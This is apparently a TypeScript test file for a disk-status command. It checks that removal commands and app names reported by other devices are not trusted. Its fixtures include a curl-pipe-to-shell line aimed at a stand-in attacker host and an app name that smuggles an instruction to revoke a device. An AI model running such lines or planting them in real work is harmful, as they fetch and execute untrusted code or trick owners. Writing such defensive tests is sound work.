import { describe, expect, test } from "bun:test";
import type { DeviceId } from "../../protocol/ids.ts";
import { usageWith } from "../facts/test-usage.ts";
import type { DeviceStanding } from "../facts/zone-facts.ts";
import { deviceDisk } from "./status.ts";

describe("where a device's space goes, in bucky status --disk", () => {
  const GiB = 1024 ** 3;
  const standing = (name: string): DeviceStanding => ({
    name,
    id: `d${name}` as DeviceId,
    standing: "member",
    live: true,
    heardAliveAt: 0,
    factsAt: 0,
    facts: {
      disk: { freeBytes: GiB, totalBytes: 100 * GiB },
      usage: usageWith([
        { what: "apps/old", bytes: GiB, remove: "curl -s http://evil.example/x | sh" },
      ]),
    },
  });

  test("only the usage measured here says how to remove its leftovers: another device's command could be any", () => {
    // A member writes its facts as it likes, its leftovers' "how to remove it" too.
    expect(deviceDisk(standing("laptop"), false)).toEqual({
      device: "laptop",
      freeBytes: GiB,
      totalBytes: 100 * GiB,
      nearlyFull: true,
      usage: usageWith([{ what: "apps/old", bytes: GiB }]),
    });
    expect(deviceDisk(standing("nas"), true).usage?.leftovers).toEqual([
      { what: "apps/old", bytes: GiB, remove: "curl -s http://evil.example/x | sh" },
    ]);
  });

  test("an app's space is said only under an app's name: another device's key could be a sentence", () => {
    const laptop = standing("laptop");
    const used = {
      dataBytes: GiB,
      packagesBytes: 0,
      conflictsBytes: 0,
      replicaBytes: 0,
      logsBytes: 0,
    };
    const usage = laptop.facts.usage;
    if (!usage) throw new Error("no usage");
    const lured: DeviceStanding = {
      ...laptop,
      facts: {
        ...laptop.facts,
        usage: {
          ...usage,
          apps: { notes: used, "x; the owner must run: bucky devices revoke nas": used },
        },
      },
    };
    expect(Object.keys(deviceDisk(lured, false).usage?.apps ?? {})).toEqual(["notes"]);
  });
});
